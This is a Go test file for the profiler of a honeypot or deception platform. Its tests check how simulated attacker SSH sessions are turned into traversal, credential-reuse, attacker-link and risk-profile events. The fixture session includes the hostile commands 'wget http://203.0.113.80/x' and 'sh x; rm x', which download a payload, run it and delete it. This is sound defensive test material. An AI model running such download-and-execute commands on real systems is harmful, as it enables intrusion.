package profiler_test

import (
	"net/netip"
	"os"
	"path/filepath"
	"testing"

	"github.com/decnet/decnet/pkg/bus"
	"github.com/decnet/decnet/pkg/decnet"
	"github.com/decnet/decnet/pkg/worker/workertest"
	"github.com/decnet/decnet/services/profiler"
)

// other is a second attacker.
var other = netip.MustParseAddr("198.51.100.9")

// by makes an event another attacker's, on another decky.
func by(e decnet.Event, addr netip.Addr, decky string) decnet.Event {
	e.Source, e.Attacker, e.Decky = addr, decnet.AttackerIDOf(addr), decky
	return e
}

// script is a session with three commands and a file, all in the words of one script.
func (r *rig) script(addr netip.Addr, decky, session string) []decnet.Event {
	var events []decnet.Event
	add := func(kind string, fields map[string]string) {
		e := by(r.event(kind, "ssh", fields), addr, decky)
		e.Session = session
		events = append(events, e)
	}
	add(decnet.KindConnect, nil)
	add(decnet.KindAuthAttempt, attempt("toor", "true"))
	for _, c := range []string{"cd /tmp", "wget http://203.0.113.80/x", "sh x; rm x"} {
		add(decnet.KindCommand, map[string]string{decnet.FieldCommand: c})
	}
	add(decnet.KindDisconnect, nil)
	return events
}

// newest waits until there are n messages of a topic and returns them, the newest first.
func newest[T any](t *testing.T, r *rig, topic bus.Topic[T], n int) []T {
	t.Helper()
	var bodies []T
	workertest.Eventually(t, "it is published on "+topic.Name, func() bool {
		ms, _, err := topic.Newest(t.Context(), r.bus, 100)
		bodies = nil
		for _, m := range ms {
			bodies = append(bodies, m.Body)
		}
		return err == nil && len(bodies) >= n
	})
	return bodies
}

func TestOthersAreToldWhatConcernsThem(t *testing.T) {
	r := newRig(t)
	r.start()
	r.see(r.ingest(append(r.script(address, "web-01", "a"), r.script(address, "db-02", "b")...)...))
	traversed := newest(t, r, bus.AttackersTraversed, 1)[0]
	if traversed.Address != address || traversed.Deckies != 2 || len(traversed.Path) != 2 || traversed.Path[1].Decky != "db-02" {
		t.Errorf("the traversal is %+v", traversed)
	}
	reused := newest(t, r, bus.CredentialsReused, 1)[0]
	if reused.Targets != 2 || reused.Attackers != 1 || !reused.Accepted || reused.Principal != "root" || reused.Attacker != decnet.AttackerIDOf(address) {
		t.Errorf("the reuse is %+v", reused)
	}
	r.see(r.ingest(r.script(other, "web-01", "c")...))
	links := newest(t, r, bus.AttackersLinked, 1)
	var script *decnet.AttackerLink
	for i := range links {
		if links[i].Kind == decnet.TraitScript {
			script = &links[i]
		}
	}
	if script == nil || script.Attacker != decnet.AttackerIDOf(other) || script.Other != decnet.AttackerIDOf(address) || script.Holders != 2 || script.Weight != 0.7 {
		t.Errorf("the links are %+v", links)
	}
	if reused := newest(t, r, bus.CredentialsReused, 2)[0]; reused.Attackers != 2 {
		t.Errorf("the second reuse is %+v", reused)
	}
}

func TestPublishedProfilesHaveNoState(t *testing.T) {
	r := newRig(t)
	r.start()
	r.see(r.ingest(r.script(address, "web-01", "a")...))
	p := newest(t, r, bus.AttackersProfiled, 1)[0]
	if p.State != nil || p.Version != decnet.ProfileVersion || p.Risk.Score == 0 || p.Phase == "" {
		t.Errorf("published %+v", p)
	}
	if stored := r.profile(6); stored.State == nil {
		t.Error("the stored profile has no state to go on with")
	}
}

func TestAMutedSourceHasNoRiskAndIsNoNews(t *testing.T) {
	r := newRig(t)
	label := decnet.SourceLabel{Prefix: netip.MustParsePrefix("203.0.113.0/24"), Name: "our scanner", Kind: decnet.LabelOwn, Mute: true}
	if err := bus.Labels.Set(t.Context(), r.bus, label, label.Key()); err != nil {
		t.Fatal(err)
	}
	r.start()
	r.see(r.ingest(append(r.script(address, "web-01", "a"), r.script(address, "db-02", "b")...)...))
	p := r.profile(12)
	sum := 0
	for _, part := range p.Risk.Parts {
		sum += part.Points
	}
	if p.Label == nil || p.Label.Name != "our scanner" || p.Risk.Score != 0 || sum != 0 || p.Events != 12 || len(p.Risk.Parts) < 2 {
		t.Errorf("the profile is %+v", p)
	}
	newest(t, r, bus.AttackersProfiled, 1)
	none(t, r, bus.AttackersTraversed)
	none(t, r, bus.CredentialsReused)
}

func none[T any](t *testing.T, r *rig, topic bus.Topic[T]) {
	t.Helper()
	if ms, _, err := topic.Newest(t.Context(), r.bus, 10); len(ms) != 0 || err != nil {
		t.Errorf("%d messages on %s of one who is muted, error %v", len(ms), topic.Name, err)
	}
}

func TestAProfileOfAnEarlierVersionIsMadeAnew(t *testing.T) {
	r := newRig(t)
	events := r.script(address, "web-01", "a")
	r.ingest(events...)
	old := decnet.Profile{Attacker: decnet.AttackerIDOf(address), Address: address, Through: 6, Events: 6, Version: 1}
	if err := r.store.Attackers.SaveProfile(t.Context(), old, 0); err != nil {
		t.Fatal(err)
	}
	r.start()
	r.see(r.happen(decnet.KindConnect, "http", nil))
	if p := r.profile(7); p.Version != decnet.ProfileVersion || p.Events != 7 || p.CommandCount != 3 {
		t.Errorf("have %+v", p)
	}
}

func TestSignaturesAreTakenUpWhileItRuns(t *testing.T) {
	r := newRig(t)
	dir := t.TempDir()
	write := func(text string) {
		// As an editor does it: the file is there as a whole or not at all.
		if err := os.WriteFile(filepath.Join(dir, "new"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(filepath.Join(dir, "new"), filepath.Join(dir, "own.yaml")); err != nil {
			t.Fatal(err)
		}
	}
	env := workertest.Env(t, "profiler", r.bus)
	p, err := profiler.New(profiler.Config{Signatures: dir}, env, r.store.Events, r.store.Attackers, r.store.Credentials)
	if err != nil {
		t.Fatal(err)
	}
	workertest.Start(t, env, p.Run)
	counter := func(name string) func() bool {
		return func() bool { return env.Health.Snapshot().Counters[name] > 0 }
	}
	write("signatures: [{id: own.x}]")
	workertest.Eventually(t, "wrong signatures are refused", counter("signatures_refused"))
	write(`signatures: [{id: own.x, title: x, tool: our tool, confidence: 77, when: [{kind: odd}], tests: [{name: x, events: [{kind: odd}]}]}]`)
	workertest.Eventually(t, "right ones are taken up", counter("signatures_loaded"))
	r.see(r.happen("odd", "ssh", nil))
	if p := r.profile(1); len(p.Tools) != 1 || p.Tools[0].Name != "our tool" || p.Tools[0].Confidence != 77 || len(p.Tools[0].Evidence) != 1 {
		t.Errorf("the tools are %+v", p.Tools)
	}
}

func TestWrongSignaturesAreToldAtTheStart(t *testing.T) {
	r := newRig(t)
	_, err := profiler.New(profiler.Config{Signatures: "/nowhere"}, workertest.Env(t, "profiler", r.bus), r.store.Events, r.store.Attackers, r.store.Credentials)
	if err == nil {
		t.Error("a folder that is not there is taken")
	}
}
